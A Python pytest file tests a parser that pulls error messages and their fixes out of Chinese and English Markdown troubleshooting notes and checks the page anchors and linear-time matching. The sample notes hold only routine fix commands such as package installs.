    bullets = "# 报错\n\n- error: Job submit/allocate failed: Invalid partition name specified\n  1. 原因：分区名写错了\n"
    (entry,) = [e for e in find_entries(bullets) if e.id_after_line]
    assert f'id="{entry.anchor}"' in _site_page(bullets)


@pytest.mark.parametrize("span", ["`ModuleNotFoundError: No module named 'cv2' `", "` ModuleNotFoundError: No module named 'cv2'`", "`ModuleNotFoundError: No module named 'cv2'\u3000`"])
def test_a_heading_s_id_is_read_from_its_code_span_as_the_page_shows_it(span):
    """Red team round 31: Python-Markdown shows a code span without the blanks at its ends (an ideographic space too),
    so a heading of ``运行时报`… `怎么办`` has the id ``运行时报modulenotfounderror-…-cv2怎么办``; the reader slugged the blank
    it kept, the entry's link led to ``…-cv2-怎么办``, nowhere, and the strict build failed on an essay the check passed."""
    body = f"# 导入报错\n\n## 运行时报{span}怎么办\n\n原因：没装 opencv。\n\n解决：pip install opencv-python\n"
    (entry,) = find_entries(body)
    assert entry.heading_id and f'id="{entry.heading_id}"' in _site_page(body)


def test_a_label_with_an_emoji_before_it_is_a_label():
    """Lookup round twelve: notes put an emoji before each label heading (``## 📋 错误信息``, ``## 🎯 问题原因``); none was
    read as a label, and the page gave no entry. ``方案`` alone names a fix, ``Question``/``Answer`` a problem and its fix."""
    body = "# 场景加载错误\n\n## 📋 错误信息\n\n```\n[PreviewInEditor] loadScene: Can not load the scene 'GameScene'\n```\n\n## 🎯 问题原因\n\n场景没有加入构建设置。\n\n## ✅ 方案\n\n把场景加进构建设置。\n"
    [entry] = find_entries(body)
    assert entry.message.startswith("[PreviewInEditor] loadScene") and {"analysis", "solution"} <= entry.sections.keys()


@pytest.mark.parametrize("after", [
    "解决办法 :\n<div>\n改用新的参数\n</div>\n",  # a raw HTML block right under the label
    "解决办法 :\n[官方文档]: https://example.com/doc\n\n见[官方文档]。\n",  # a reference's definition
    "解决办法 :\n*[JVM]: Java Virtual Machine\n\n调大 JVM 的堆。\n",  # an abbreviation's
    "解决办法\n===\n改用新的参数\n",  # a setext heading: no id line reaches it
    "解决办法 :\n:   改用新的参数\n",  # a definition: the label is its term
])
def test_a_block_then_label_entry_s_id_line_is_never_shown_as_text(after):
    """Red team round 32: a block-then-label entry's id line went after the label's paragraph as far as the next blank
    line, through an HTML block or a definition the page reads as a block of its own: the id line was shown as text, the
    check passed and the strict build failed (``the page has no id``). It goes where the label's block ends, or nowhere."""
    body = "```\nTraceback (most recent call last):\nKeyError: 'a b'\n```\n\n" + after
    page = _site_page(body)
    assert "{ #" not in page
    for entry in find_entries(body):
        assert f'id="{entry.anchor}"' in page


@pytest.mark.parametrize("body", [
    "启动时报错：`KeyError: 'a b'`\n原来是配置里少了 a b 这一项。\n后来又报错：`ValueError: bad value x`\n把 x 改成数字就好了。\n",
    "启动时报错：`KeyError: 'a b'`\n改了配置，又报错如下：\n\n```\nValueError: bad value x\n```\n\n把 x 改成数字就好了。\n",
    "启动时报错：`KeyError: 'a b'`\n## 原因\n配置里少了 a b 这一项。\n",  # a heading (Python-Markdown's needs no blank line)
    "启动时报错：`KeyError: 'a b'`\n[^1]: 配置里少了 a b 这一项。\n\n见脚注[^1]。\n",
    "| a | b |\n|---|---|\n启动时报错：`KeyError: 'a b'`\n\n配置里少了 a b 这一项。\n",  # a table's row
])
def test_errors_introduced_in_one_paragraph_give_it_one_id_the_page_keeps(body):
    """Red team round 32: two errors a paragraph quotes each gave an entry whose id line went after the same line; the
    first was shown as text and its link led nowhere (the check passed, the strict build failed). An introduced error's id
    line goes where its line's block ends, as the page reads it, and a paragraph gets one."""
    page = _site_page(body)
    assert "{ #" not in page
    entries = find_entries(body)
    assert len({entry.id_after_line for entry in entries}) == len(entries)
    for entry in entries:
        assert f'id="{entry.anchor}"' in page


def test_a_heading_that_is_only_the_word_for_an_error_labels_the_block_under_it():
    """Lookup round twelve: ``##### 报错2`` over a block of the loader's ``version `GLIBC_2.17' not found`` (no type, no
    tool's error line), labels under it, gave no entry; a heading that is only the word for an error, numbered or not,
    labels the block as ``报错信息：`` would. And a program that prints its error number before the C library's words
    (``ioctl(KVM_CREATE_VM) failed: 16 Device or resource busy``) prints its error plainly: the prose under it is the fix."""
    glibc = "##### 报错2\n\n```bash\npython.bin: /lib64/libc.so.6: version `GLIBC_2.17' not found\n```\n\n**原因分析**\n\n未安装 2.17 版本的 glibc\n"
    assert [e.message for e in find_entries(glibc)] == ["python.bin: /lib64/libc.so.6: version `GLIBC_2.17' not found"]
    kvm = "## ioctl(KVM_CREATE_VM) failed: 16 Device or resource busy\n\n启动了其他虚拟机工具（例如 virtualbox），关闭即可。\n"
    assert [e.message for e in find_entries(kvm)] == ["ioctl(KVM_CREATE_VM) failed: 16 Device or resource busy"]


@pytest.mark.parametrize(
    ("cause", "fix"),
    [("Reason", "How to fix"), ("Root cause", "Workaround"), ("Why", "Resolution"), ("原因", "解决方法")],
)
def test_a_note_written_in_english_labels_its_sections_as_a_chinese_one_does(cause, fix):
    body = textwrap.dedent(
        f"""\
        ## Webpack build fails after upgrading

        ```
        Module not found: Error: Can't resolve 'fs' in '/app/src'
        ```

        ### {cause}

        Webpack 5 no longer adds Node's core modules for the browser.

        ### {fix}

        Add `resolve.fallback: {{ fs: false }}` to the config.
        """
    )
    [entry] = find_entries(body)
    assert list(entry.sections) == ["details", "analysis", "solution"]
    assert "core modules" in entry.sections["analysis"] and "resolve.fallback" in entry.sections["solution"]


@pytest.mark.parametrize(
    ("shown", "message"),
    [
        ("main.cpp:3:10: fatal error: opencv2/opencv.hpp: No such file or directory\ncompilation terminated.", "main.cpp:3:10: fatal error: opencv2/opencv.hpp: No such file or directory"),
        ('1>main.obj : error LNK2019: 无法解析的外部符号 "void __cdecl foo(void)"，函数 main 中引用了该符号', '1>main.obj : error LNK2019: 无法解析的外部符号 "void __cdecl foo(void)",函数 main 中引用了该符号'),  # read as pasted: NFKC
        ("C:\\src\\main.cpp(27,5): error C2065: 'cout': undeclared identifier", "C:\\src\\main.cpp(27,5): error C2065: 'cout': undeclared identifier"),
        ("./app: /lib64/libc.so.6: version `GLIBC_2.28' not found (required by ./app)", "./app: /lib64/libc.so.6: version `GLIBC_2.28' not found (required by ./app)"),
    ],
)
def test_a_compiler_s_or_the_dynamic_loader_s_error_line_under_an_error_heading_is_the_entry(shown, message):
    # gcc and MSVC put where the error is before ``error:``; the loader words a missing symbol version without it.
    body = f"## 编译报错\n\n```\n{shown}\n```\n\n### 解决方法\n\n按上面的提示补上依赖。\n"
    [entry] = find_entries(body)
    assert entry.message == message and entry.sections["solution"] == "按上面的提示补上依赖。"


def test_a_linker_driver_s_summary_line_is_no_compiler_error_line():
    # ``collect2: error: ld returned 1 exit status`` follows every link failure: no entry is made of it.
    body = "## 编译报错\n\n```\ncollect2: error: ld returned 1 exit status\n```\n\n### 解决方法\n\n看上面一行。\n"
    assert find_entries(body) == []


def test_two_words_the_word_for_an_error_and_a_colon_introduce_in_a_heading_are_its_message():
    # Lookup round thirteen (a QAnything FAQ): ``## 使用ollama本地服务时报错：Connection error.`` named its error in two
    # words, under the three a plain heading needs; ``报错：`` says that what follows is the message.
    body = "## 使用ollama本地服务时报错：Connection error.\n- 原因：ollama 只监听 127.0.0.1\n- 解决方式：绑定到 0.0.0.0\n"
    assert [(e.message, e.sections.get("solution")) for e in find_entries(body)] == [("Connection error", "绑定到 0.0.0.0")]
    # Without the colon, or where the two words name no error, a heading stays no entry.
    assert find_entries("## 启动报错 Connection error\n- 解决方式：重启\n") == []
    assert find_entries("## 安装报错：Docker Desktop\n- 解决方式：重装\n") == []


def test_a_table_s_delimiter_row_is_told_in_linear_time_after_any_blanks():
    # Red team round 33: the pattern took cubic time in a line's leading blanks (176 s at 80 KB); the nesting rule
    # refuses such a line first today, but the pattern should not rest on that.
    from scaling import grows_linearly

    from errata.entries import _TABLE_DELIMITER_ROW

    assert grows_linearly(lambda n: _TABLE_DELIMITER_ROW.match(" \t" * n + "x"), 20_000)
    assert _TABLE_DELIMITER_ROW.match(" | :--- |") and _TABLE_DELIMITER_ROW.match("-|") and not _TABLE_DELIMITER_ROW.match("| a |")


def test_a_spring_boot_failure_analysis_is_read_past_its_banner():
    # Lookup round thirteen (an XXL-JOB note): the entry's message was the banner ``APPLICATION FAILED TO START``, the
    # same over every failure Spring Boot explains; it was then found inside Qt's "This application failed to start
    # because no Qt platform plugin …" and given as a confident answer. The sentence under ``Description:`` is the error.
    body = (
        "启动项目，报错信息如下：\n\n```\n***************************\nAPPLICATION FAILED TO START\n***************************\n\n"
        "Description:\n\nField userMapper in com.example.UserService required a bean of type 'com.example.UserMapper' that could not be found.\n\n"
        "Action:\n\nConsider defining a bean of type 'com.example.UserMapper' in your configuration.\n```\n\n解决方法：启动类加上 @MapperScan。\n"
    )
    [entry] = find_entries(body)
    assert entry.message.startswith("Field userMapper in com.example.UserService required a bean")


def test_an_item_that_says_its_error_follows_reads_it_on_its_next_line():
    # Lookup round thirteen (a LeRobot note): ``2. 运行 data visualizer 报错：`` with the error as printed on the item's next line
    # and ``解决方法：`` after it, in one paragraph; the item was read as naming no error.
    body = (
        "# troubleShooting\n\n"
        "2. 运行 data visualizer 报错：\n    ValueError: No valid stream found in input file. Is -1 of the desired media type?\n    解决方法：降级 ffmpeg 到 6.1.1\n\n"
        "3. 运行 gazebo 报错：\n    FileNotFoundError: [Errno 2] No such file or directory: 'gz'\n    解决方法：安装 ros-humble-gazebo-ros-pkgs\n"
    )
    entries = find_entries(body)
    assert [(e.message, e.sections["solution"]) for e in entries] == [
        ("ValueError: No valid stream found in input file. Is -1 of the desired media type?", "降级 ffmpeg 到 6.1.1"),
        ("FileNotFoundError: [Errno 2] No such file or directory: 'gz'", "安装 ros-humble-gazebo-ros-pkgs"),
    ]
    assert [e.id_after_line for e in entries] == [5, 9]  # after each item's paragraph, where the page gives the item its id
    # An item that says nothing of an error, or whose next line is the next item, is no entry.
    assert find_entries("1. 安装步骤：\n    pip install x y\n    解决方法：无\n") == []


@pytest.mark.parametrize(
    ("log", "message"),
    [
        ("2023-01-01 10:00:00 INFO server starting\n2023-01-01 10:00:01 ERROR Failed to bind port 8080: address already in use", "2023-01-01 10:00:01 ERROR Failed to bind port 8080: address already in use"),
        ("npm run build\n> app@1.0.0 build\nsh: vite: command not found", "sh: vite: command not found"),
    ],
)
def test_under_an_error_log_label_the_first_line_that_names_an_error_is_the_message(log, message):
    # Red team round 34: under ``### Error log`` (or ``### 错误日志``) the block's first line was the message, though a log
    # often starts with the program starting or the command run.
    for label in ("错误日志", "Error log"):
        body = f"## 部署失败\n\n### {label}\n\n```\n{log}\n```\n\n### 解决\n\n改端口。\n"
        assert [e.message for e in find_entries(body)] == [message]


def test_cmake_s_report_under_an_error_heading_gives_its_indented_message():
    # Lookup round fourteen (a VTK build note): ``#### 3.1 FFmpeg 报错`` over a block that opens with CMake's report,
    # ``CMake Error at CMake/vtkModule.cmake:4578 (message):``, and says what went wrong on the indented lines under it.
    # The first line only says where (the same over each of the note's 17 missing dependencies), and no heading became
    # an entry: the message is the indented sentence, which tells the dependencies apart.
    def section(name, path):
        return (
            f"#### {name} 报错\n\n```\nCMake Error at CMake/vtkModule.cmake:4578 (message):\n"
            f"  Could not find the {name} external dependency.\nCall Stack (most recent call first):\n"
            f"  {path}/CMakeLists.txt:1 (vtk_module_find_package)\n```\n\nCMake 配置 {name} 的路径。\n\n"
        )

    body = "### 3.报错解决\n\n" + section("FFMPEG", "IO/FFMPEG") + section("GDAL", "IO/GDAL")
    assert [e.message for e in find_entries(body)] == [
        "Could not find the FFMPEG external dependency.",
        "Could not find the GDAL external dependency.",
    ]


def test_the_error_a_post_s_title_names_is_its_entry_where_the_page_has_no_other():
    """Lookup rounds thirteen and fourteen (a Jekyll post on Nuxt, a Hexo post on Helm): the error stood only in the front
    matter's title (``title: helm 报错：another operation … is in progress处理方法``), the body said what was done, and the
    page gave no entry. The title is read as a heading's words are; the page shows it as its heading, with the entry's id."""
    import markdown

    from errata.cards import render_essay
    from errata.checks import check_entry_anchors

    title = "helm 报错：another operation (install/upgrade/rollback) is in progress处理方法 *1*"
    body = "### 背景\n\n用 Flux CD 管理 Helm Release。\n\n### 解决方案\n\n1. 运行 `helm history` 找到上一个版本。\n2. `helm rollback` 回去。\n"
    [entry] = find_entries(body, 5, title)
    assert entry.message == "another operation (install/upgrade/rollback) is in progress" and "helm rollback" in entry.sections["solution"]
    to_html = markdown.Markdown(extensions=["attr_list", "toc"]).convert
    page = to_html(render_essay(body, [entry], 5))
    assert page.count("<h1") == 1 and f'<h1 id="{entry.anchor}">helm 报错：another operation (install/upgrade/rollback) is in progress处理方法 *1*</h1>' in page
    assert check_entry_anchors(body, [entry], "a.md", 5, to_html) == []
    # Not where the page has its own first-level heading, another entry, no fix, or a title that names no error.
    assert find_entries("# 我的笔记\n\n" + body, 5, title) == []
    assert find_entries(body, 5, "helm 的几个用法") == [] and find_entries("```\nhelm upgrade x\n```\n", 5, title) == []
    assert [e.message for e in find_entries("## 依赖缺失：`Could not find gem 'rails'`\n\n- 解决：换镜像\n", 5, title)] == ["Could not find gem 'rails'"]


def test_a_title_entry_is_no_second_first_level_heading():
    """Red team 35: the page's own first-level heading written otherwise than ``# x`` (a setext ``===`` underline, an
    HTML ``<h1>``, a ``# x`` in a quote) was not seen, so the title entry put a second ``<h1>`` on the page, over the
    page's own (the theme shows the title only where the page has none)."""
    import markdown

    title = "Error: cannot open shared object file libfoo"
    fix = "### 解决方案\n\n重装 libfoo。\n"
    to_html = markdown.Markdown(extensions=["attr_list", "toc", "md_in_html"]).convert
    from errata.cards import render_essay

    for own in ("我的标题\n====\n\n", "<h1>我的标题</h1>\n\n", "> # 引用里的标题\n\n", "- # 列表里的标题\n\n"):
        body = own + fix
        entries = find_entries(body, 5, title)
        assert entries == [], own
        assert to_html(render_essay(body, entries, 5)).count("<h1") == 1, own
    # Not a first-level heading: a second-level setext one, an indented ``===`` (text to Python-Markdown), ``<h1>`` in
    # code, code's ``#``.
    for other in ("我的标题\n---\n\n", "我的标题\n  ===\n\n", "正文写 `<h1>` 标签。\n\n", "```\n# 注释\n```\n\n", "    # 注释\n\n"):
        assert [e.message for e in find_entries(other + fix, 5, title)] == [title], other


def test_cmake_s_report_line_is_read_in_linear_time():
    """Red team 35: ``_CMAKE_REPORT`` is searched in the first line of a block; a line of 160,000 characters of
    ``CMake Error at x`` with no colon at its end read on from each to the end and back (12 s on e3cd7a3)."""
    import time

    body = "## CMake 编译报错\n\n```\n" + "CMake Error at x " * 10_000 + "\n```\n\n解决方法：重装 cmake。\n"
    start = time.perf_counter()
    find_entries(body, 1)
    assert time.perf_counter() - start < 1
    report = "## CMake 编译报错\n\n```\nCMake Error at a.cmake:1 (message):\n  Could not find the FFMPEG external dependency.\n```\n\n解决方法：装 ffmpeg。\n"
    assert [e.message for e in find_entries(report, 1)] == ["Could not find the FFMPEG external dependency."]


def test_a_heading_with_a_program_s_line_number_between_colons_keeps_its_slug():
    # Lookup round fifteen (an Oh My Zsh note): ``# 解决 Zsh 报错：(anon):12: character not in range`` was read as holding an
    # emoji shortcode (``:12:``), so its id was taken as uncertain and the note gave no entry. Digits alone are no emoji
    # name but :100: and :1234:; the same held for every heading with a compiler's ``main.c:3:``.
    from errata.entries import _slug_is_certain

    assert _slug_is_certain("解决 Zsh 报错：(anon):12: character not in range") and _slug_is_certain("Makefile:8: /make/project.mk: 没有那个文件或目录")
    assert not _slug_is_certain("考了 :100: 分") and not _slug_is_certain("点个 :+1: 吧") and not _slug_is_certain("遇到 :bug: 了")
    body = "# 解决 Zsh 报错：(anon):12: character not in range\n\n## 问题分析\n\n没有生成 locale。\n\n## 解决方案\n\n生成 en_US.UTF-8。\n"
    assert [e.message for e in find_entries(body)] == ["(anon):12: character not in range"]


def test_a_label_in_bold_written_with_underscores_names_its_section():
    # Lookup round fifteen (a Canal note): ``# canal 报错 Could not find first log file name …`` over ``__解决方案__`` and the
    # fix; bold written with underscores was no label, the heading had no section and gave no entry.
    body = "# canal 报错 Could not find first log file name in binary log index file\n\n__解决方案__  \n\n重置 binlog 位点后重启 canal。\n"
    assert [(e.message, e.sections) for e in find_entries(body)] == [
        ("Could not find first log file name in binary log index file", {"solution": "重置 binlog 位点后重启 canal。"})
    ]


def test_an_error_quoted_right_after_the_word_for_it_in_a_faq_heading_is_an_entry_over_prose():
    """Lookup round fifteen: FAQs ask ``### Q5: gunicorn 报错 "Failed to find attribute 'app'"`` and answer in prose
    under it, unlabelled. The quotes say what the error is as surely as a colon does; a quoted phrase elsewhere in a
    heading (``关于 "性能" 的问题``) says nothing of the kind."""
    body = (
        "# 部署手册\n\n## 常见问题\n\n"
        "### Q5: gunicorn 报错 \"Failed to find attribute 'app'\"\n\n入口文件里的实例名和命令里的不一致，改成：\n\n"
        "```bash\ngunicorn -w 4 main:application\n```\n\n"
        "### Q6: Keil 报错“No ULINK2/ME Device found”\n\n在 Utilities 里勾选 Use Target Driver for Flash Programming。\n\n"
        "### Q7: 关于 \"性能\" 的问题\n\n多开几个 worker。\n"
    )
    entries = find_entries(body)
    assert [(e.message, sorted(e.sections)) for e in entries] == [
        ("Failed to find attribute 'app'", ["solution"]),
        ("No ULINK2/ME Device found", ["solution"]),
    ]
    assert "实例名" in entries[0].sections["solution"]


def test_a_title_entry_is_no_second_first_level_heading_inside_containers():
    """Red team 36: a ``# x`` the site's Markdown reads as the page's own ``<h1>`` inside an admonition, a details block,
    a tab, a definition, a footnote, an item's indented content or nested items was not seen, so the title entry put a
    second ``<h1>`` over it."""
    from scaling import grows_linearly

    from errata.cards import render_essay

    to_html = _the_site_s_markdown()
    title = "ModuleNotFoundError: No module named 'cv2' 解决"
    fix = "\n\n### 解决方案\n\npip install opencv-python\n"
    for own in ("!!! note\n    # 我的标题\n", '??? note "看"\n    # 我的标题\n', '=== "A"\n    # 我的标题\n', "术语\n:   # 我的标题\n",
                "- - # 我的标题\n", "- > # 我的标题\n", "> - > # 我的标题\n", "正文[^1]\n\n[^1]: # 我的标题\n", "- 项\n\n    # 我的标题\n", "1. 2. # 我的标题\n"):
        body = own + fix
        entries = find_entries(body, 5, title)
        assert to_html(render_essay(body, entries, 5)).count("<h1") == 1, own
    for other in ("正文\n\n    # 注释\n", "- #标签\n", "正文 # 不是标题\n"):
        assert [e.message for e in find_entries(other + fix, 5, title)] == ["ModuleNotFoundError: No module named 'cv2'"], other
    assert grows_linearly(lambda n: find_entries("> - " * n + "x" + fix, 5, title), 5_000)


def test_an_english_line_that_says_an_error_follows_introduces_it():
    """Lookup round sixteen: a Chinese author's English install notes (``I met a problem when I start the web:``, a
    block, then a fix in prose) gave no entry. English says "problem" and "issue" of other things too, so what it
    introduces must be an error as printed; a note's "What changed, with the issues it closes:" introduces none."""
    body = (
        "# Install\n\n#### 3. Start the web\n\n"
        "I met a problem when I start the cuckoo web:\n```\n(base) C:\\Scripts>cuckoo.exe web\n"
        "c:\\python27\\python.exe: can't open file 'C:\\Scripts\\cuckoo': [Errno 2] No such file or directory\n```\n\n"
        "Copy cuckoo-script.py to cuckoo in the same folder and run it again.\n"
    )
    (entry,) = find_entries(body)
    assert entry.message.endswith("[Errno 2] No such file or directory") and "cuckoo-script.py" in entry.sections["solution"]
    other = "# Notes\n\nWhat changed, with the issues it closes:\n\nThe importer keeps every title and was rewritten.\n\nThanks to all.\n"
    assert find_entries(other) == []


def test_a_heading_that_only_numbers_a_problem_is_an_entry_for_the_error_printed_under_it():
    """Lookup round sixteen: a troubleshooting page of ``# 问题1`` … ``# 问题12``, each a sentence, the error printed
    on a line of its own (no fence), then ``#### 解决方法``, gave one entry of nine. The heading names nothing; the
    first line under it that is an error as a program prints it is the entry's, and the heading's id its link."""
    body = (
        "# 问题1\n导入模块时提示 numpy 的问题，具体如下：\n"
        "RuntimeError: The current Numpy installation fails to pass a sanity check due to a bug in the windows runtime.\n"
        "#### 解决方法\n安装 1.19.3 版本的 numpy。\n\n-----\n"
        "# 问题2\n如果已经进入了 python 环境，执行 pip install 时会报以下错误：\nFile \"<stdin>\", line 1\n"
        "SyntaxError: invalid syntax\n#### 解决方法\n退出 python 环境，到系统终端里执行。\n\n-----\n"
        "# 问题3\n安装时提示没有权限。\n#### 解决方法\npip install --user 包名\n"
    )
    assert [(e.message, e.heading_id, sorted(e.sections)) for e in find_entries(body)] == [
        ("RuntimeError: The current Numpy installation fails to pass a sanity check due to a bug in the windows runtime.", "问题1", ["solution"]),
        ("SyntaxError: invalid syntax", "问题2", ["solution"]),
    ]
    # A heading with words of its own is not a number: ``# 安装`` over an error line is left to the other rules.
    assert find_entries("# 安装说明\n\nSyntaxError: invalid syntax\n\n#### 解决方法\n退出。\n") == []


def test_a_fix_written_as_the_error_s_sibling_section_is_the_entry_s():
    """Lookup rounds fifteen and sixteen: ``## X 报错`` or ``# kibana 报错"search_phase_execution_exception"``, the log,
    then ``## 解决方案`` at the same level: the fix is the error's sibling, not under it, and was lost (or the entry
    with it). A label heading of the error's level right after its section is part of its entry; any other heading
    still ends it. A label is read at any heading level (``## 解决方法`` inside an entry is its fix)."""
    body = (
        "# 笔记\n\n## ImportError: No module named cv2\n\n```\nTraceback (most recent call last):\nImportError: No module named cv2\n```\n\n"
        "## 解决方法\n\npip install opencv-python\n\n## 其他\n\n和这个报错无关的内容。\n"
    )
    (entry,) = find_entries(body)
    assert entry.sections["solution"] == "pip install opencv-python" and "无关" not in str(entry.sections)
    kibana = (
        '# kibana 报错"search_phase_execution_exception"\n\n'
        "search_phase_execution_exception: Search rejected due to missing shards [[.kibana_task_manager_8.7.0_001][0]].\n\n"
        "# 解决方案：\n\n用内置用户 kibana_system 删掉 .kibana_task_manager 的索引。\n"
    )
    (entry,) = find_entries(kibana)
    assert entry.message == "search_phase_execution_exception" and "kibana_system" in entry.sections["solution"]


def test_each_row_of_a_table_of_errors_and_fixes_is_an_entry_with_its_id_in_the_row():
    """Lookup round sixteen: a quick reference ``| 报错 | 原因 | 解决 |`` with a row an error (the commonest shape the
    round left unread: at least ten notes write one) gave no entry. Each row whose error cell is an error as printed is
    one, its other columns the sections their headers name; the page keeps the table, and an empty span in the row's
    first cell carries the entry's id. A row of Chinese words about an error, a name in code among them (``\\`database_id\\`
    未替换``) and a table of anything else give none."""
    from errata.cards import render_essay
    from errata.checks import check_entry_anchors

    body = (
        "# ESP32 上跑 TFLM\n\n## 报错速查\n\n| 报错 | 原因 | 解决 |\n|---|---|---|\n"
        "| `AllocateTensors() failed` | arena 太小 | 加大 arena |\n"
        "| `cannot open file` / 路径过长 | 长路径未开 | 开 `LongPathsEnabled` |\n"
        "| 结果与 PC 端差很多 | 量化误差 | 用同一个 int8 模型对齐 |\n"
        "| `database_id` 未替换就 deploy | 忘跑 setup | `npm run setup` |\n\n"
        "## 工具\n\n| 命令 | 说明 |\n|---|---|\n| `Error: x y` | 不是报错表 |\n"
    )
    entries = find_entries(body, 3)
    assert [(e.message, e.sections, e.row_line) for e in entries] == [
        ("AllocateTensors() failed", {"analysis": "arena 太小", "solution": "加大 arena"}, 9),
        ("cannot open file", {"analysis": "长路径未开", "solution": "开 `LongPathsEnabled`"}, 10),
    ]
    to_html = _the_site_s_markdown()
    page = to_html(render_essay(body, entries, 3))
    assert page.count("<table>") == 2 and f'<span id="{entries[0].anchor}"></span>' in page
    assert check_entry_anchors(body, entries, "x.md", 3, to_html) == []


def test_a_quick_reference_headed_in_other_words_and_a_quoted_error_after_a_command_in_code_are_read():
    """Lookup round seventeen: a table headed ``| 报错关键词 | 优先检查 |`` (the error's key words, what to check first),
    a FAQ heading ``### Q: `pnpm install` 报错 "Unsupported engine"`` (a command in code before the quoted error) and a
    bold label ``**解决方法及步骤**`` gave no entry; a column headed ``错误处理`` is still no column of errors."""
    body = (
        "# UTS 兼容\n\n## 报错速查\n\n| 报错关键词 | 优先检查 |\n| --- | --- |\n"
        "| `No value passed for parameter` | 函数是否仍用可选参且调用时省略 |\n\n"
        "## 常见问题\n\n### Q: `pnpm install` 报错 \"Unsupported engine\"\n\n把 Node 升到 18 以上再装。\n\n"
        "## 写法\n\n| 错误处理 | 说明 |\n|---|---|\n| `Error: x is not defined` | 用 try |\n"
    )
    assert [(e.message, sorted(e.sections)) for e in find_entries(body)] == [
        ("No value passed for parameter", ["solution"]),
        ("Unsupported engine", ["solution"]),
    ]
    from errata.entries import section_key

    assert section_key("解决方法及步骤") == "solution" and section_key("排查步骤") == "solution"


def test_a_table_s_rows_give_one_id_each_and_only_where_the_page_has_a_table():
    """Red team round 37: a table that gives the same error twice (two causes of ``Connection refused``) put the same
    span in both rows, and the check refused the page for a duplicate id; a header right under a paragraph's line makes no
    table, and a backtick earlier in that paragraph (an unclosed fence's) made the row's span code, shown as text, while
    the check passed (the text held ``id="…"``)."""
    from errata.cards import render_essay
    from errata.checks import check_duplicate_ids, check_entry_anchors

    to_html = _the_site_s_markdown()
    repeated = "## 速查\n\n| 报错 | 原因 | 解决 |\n|---|---|---|\n| `Connection refused` | 服务没启动 | 启动 |\n| `Connection refused` | 防火墙 | 放行 |\n"
    entries = find_entries(repeated)
    assert [(e.message, e.row_line) for e in entries] == [("Connection refused", 5)]
    assert check_duplicate_ids(repeated, entries, "x.md", 1) == [] and check_entry_anchors(repeated, entries, "x.md", 1, to_html) == []
    table = "| 报错 | 原因 | 解决 |\n|---|---|---|\n| `OSError: [Errno 98] Address already in use` | 端口被占 | 换端口 |\n"
    for before in ("常见报错如下（命令里的 ` 记得转义）：\n", "```\n"):
        assert find_entries(before + table) == []
    for before in ("", "## 速查\n", "    code\n", "<p>x</p>\n", "标题\n===\n", "!!! note\n    "):
        body = before + table.replace("\n", "\n    " if before.endswith("    ") else "\n", 2)
        entries = find_entries(body)
        assert [e.row_line for e in entries] == [before.count("\n") + 3], before
        assert "&lt;span" not in to_html(render_essay(body, entries)) and check_entry_anchors(body, entries, "x.md", 1, to_html) == []


def test_a_heading_slugged_to_a_table_row_s_id_is_a_duplicate_the_check_reports():
    """Red team round 38: a row's id is an empty span, raw HTML the table of contents does not see, so a heading whose slug
    is that id keeps it and the page holds it twice: the strict build refused the page, the check passed it."""
    from errata.cards import render_essay
    from errata.checks import check_duplicate_ids
    from errata.safety import duplicate_ids, sanitize_html

    table = "| 报错 | 解决 |\n|---|---|\n| `OSError: [Errno 98] Address already in use` | 换端口 |\n"
    anchor = find_entries(table)[0].anchor
    body = table + f"\n## {anchor}\n\n正文\n"
    entries = find_entries(body)
    assert duplicate_ids(sanitize_html(_the_site_s_markdown()(render_essay(body, entries)))) == [anchor]  # what the build sees
    assert [p.line for p in check_duplicate_ids(body, entries, "x.md", 1)] == [5]
    assert check_duplicate_ids(table + "\n## 其他标题\n", find_entries(table + "\n## 其他标题\n"), "x.md", 1) == []


@pytest.mark.parametrize(
    "make",
    [
        lambda n: "".join("| 报错 | 解决 |\n|---|---|\n" for _ in range(n // 2)),
        lambda n: "## ImportError: No module named cv2\n\n```\nImportError\n```\n" + "## 解决方法\n\npip install x\n" * (n // 3),
    ],
)
def test_tables_and_sibling_labels_are_read_in_linear_time(make):
    """Red team round 37: each delimiter line read the rows after it again (a page of header and delimiter lines: 196 s
    for the check at 12,000 lines), and each sibling label (``## 解决方法``) read the page to its end (255 s)."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries(make(n)), 2000)


def test_a_task_list_of_bugs_each_an_error_in_code_and_its_fix_after_a_comma_gives_entries_with_ids():
    """Lookup round seventeen: a README's ``## Bug`` task list (``- [x] Sequelize 报错 `…`，关闭 `…` ``) gave no entry.
    An item with nothing but a name and the word for an error before its error in code, and what fixed it after a comma,
    is one; its id goes after the item, where the page shows it on the item. An item whose code is a command is none."""
    from errata.cards import render_essay
    from errata.checks import check_entry_anchors

    body = (
        "## Bug\n\n- [x] Sequelize 报错 `Cannot read property 'hooks' of undefined`，关闭 `User.sync({force: true})`\n"
        "- [x] `Class constructor Model cannot be invoked without 'new'`，在 `tsconfig.json` 中将编译目标设置为 `es6`\n"
        "- [ ] 运行 `npm run dev`，等它起来\n"
    )
    entries = find_entries(body)
    assert [(e.message, e.sections) for e in entries] == [
        ("Cannot read property 'hooks' of undefined", {"solution": "关闭 `User.sync({force: true})`"}),
        ("Class constructor Model cannot be invoked without 'new'", {"solution": "在 `tsconfig.json` 中将编译目标设置为 `es6`"}),
    ]
    to_html = _the_site_s_markdown()
    assert check_entry_anchors(body, entries, "x.md", 1, to_html) == []
    assert to_html(render_essay(body, entries)).count("<li") == 3


def test_the_last_clause_of_a_long_line_may_say_the_error_follows():
    """Lookup round seventeen: ``……但在某些场景下（如弹窗、工具窗口），这会导致 WebView2 报错：`` then the error in a
    block gave no entry: the line was too long for a line that says an error follows. Its last clause says so, with its
    colon; a long line whose last clause only mentions an error (``……不会报错。``) introduces nothing."""
    body = (
        "# Focus\n\n## 背景\n\n在 Windows 平台上调用 `window.Focus()` 时，Wails 内部会调用 WebView2 的 `Focus()` 方法，"
        "但在某些场景下（如弹窗、工具窗口），这会导致 WebView2 报错：\n\n```\n[WebView2 Error] The parameter is incorrect.\n```\n\n"
        "改用原生的 `SetForegroundWindow`，弹窗就能正常获取焦点了。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "[WebView2 Error] The parameter is incorrect." and "SetForegroundWindow" in entry.sections["solution"]
    calm = "# 说明\n\n在 Windows 平台上调用这个方法时，只要窗口已经显示出来并且处于前台，一般就不会报错。\n\n```\nError: x y z\n```\n\n没问题。\n"
    assert find_entries(calm) == []


def _the_site_s_markdown():
    """The Markdown this site builds its pages with (its own ``mkdocs.yml``), as the check renders an essay."""
    from pathlib import Path

    from errata.contribution import site_markdown

    return site_markdown(Path(__file__).resolve().parents[1] / "mkdocs.yml")


